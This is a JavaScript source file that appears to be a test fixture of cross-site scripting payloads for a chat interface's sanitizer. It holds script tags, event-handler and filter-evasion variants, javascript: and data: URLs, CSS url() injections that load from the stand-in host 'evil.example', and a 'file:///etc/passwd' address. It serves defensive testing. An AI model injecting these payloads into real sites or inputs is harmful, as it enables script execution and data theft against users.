/** Texts that try to become markup, script or style; executed code calls `ran`. */

/** An origin from which nothing may ever be loaded. */
const load = "//evil.example/"

const elements = [
  "img src=x",
  "svg",
  "video src=x",
  "audio src=x",
  "details open",
  "input autofocus",
  `iframe src=https:${load}`,
  "body",
  "marquee",
  "object data=x",
]

const events = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onpointerenter",
  "onanimationstart",
].concat("onbegin", "onpageshow")

const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=ran()>`))

const markup = [
  "<script>ran()</script>",
  `<script src=https:${load}s.js></script>`,
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "</p></div></parley-chat><script>ran()</script>",
  "</title><script>ran()</script>",
  "</style><script>ran()</script>",
  "</noscript><script>ran()</script>",
  "--><script>ran()</script>",
  "]]><script>ran()</script>",
  "<svg><script>ran()</script></svg>",
  "<svg><animate onbegin=ran() attributeName=x>",
  "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<template><img src=x onerror=ran()></template>",
  `<link rel=stylesheet href=https:${load}s.css>`,
  `<link rel=preload as=image href=https:${load}p>`,
  `<base href=https:${load}>`,
  `<meta http-equiv=refresh content='0;url=https:${load}'>`,
  `<form action=https:${load}><button>ok</button></form>`,
  `<embed src=https:${load}>`,
  `<img src=https:${load}i.png>`,
  `<img srcset='https:${load}i.png 1x'>`,
  `<style>*{background:url(https:${load}b)}</style>`,
  `<style>@import 'https:${load}i.css'</style>`,
  "<a href=javascript:ran()>ok</a>",
  "<iframe srcdoc='<script>parent.ran()</script>'>",
  "\u003cimg src=x onerror=ran()\u003e",
  "&lt;img src=x onerror=ran()&gt;",
  "&#60;script&#62;ran()&#60;/script&#62;",
  "%3Cscript%3Eran()%3C/script%3E",
]

/** Addresses that would run code, or show a page made by the author, if they were followed. */
export const links = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\u0001javascript:"].concat(
    "java\nscript:",
    "javascript:\u0000",
    "javascript&colon;",
    "jav&#x09;ascript:",
    "vbscript:",
    "livescript:",
    "view-source:javascript:",
    "blob:javascript:",
    "filesystem:javascript:",
  ),
].flatMap((scheme) => [`${scheme}ran()`, `${scheme}//%0aran()`])

/** Addresses that contain their own content. */
export const data = [
  "data:text/html,<script>parent.ran()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>",
  "data:application/xhtml+xml,<html/>",
  "data:text/javascript,ran()",
  "data:,ran()",
  "file:///etc/passwd",
  "about:srcdoc",
]

/** CSS values that would end their declaration, or add an address to it. */
export const styles = [
  "url(",
  "URL(",
  "\\75rl(",
  "u\\72 l(",
  "image(",
  "image-set(",
  "-webkit-image-set(",
  "cross-fade(",
  "src(",
].flatMap((open) => [
  `${open}https:${load}c)`,
  `red;background:${open}"https:${load}c")`,
  `red}*{background:${open}https:${load}c)}`,
])

const breakers = ['"', "'", "`", '">', "'>", "\\", '\\"', "{{", "}}", "\u2028", "${"].flatMap(
  (end) => [
    `${end} onpointerenter=ran() x=`,
    `${end} autofocus onfocus=ran() x=`,
    `${end} style=background:url(https:${load}a) x=`,
  ],
)

/** All payloads. */
export const payloads = [...handlers, ...markup, ...links, ...data, ...styles, ...breakers]
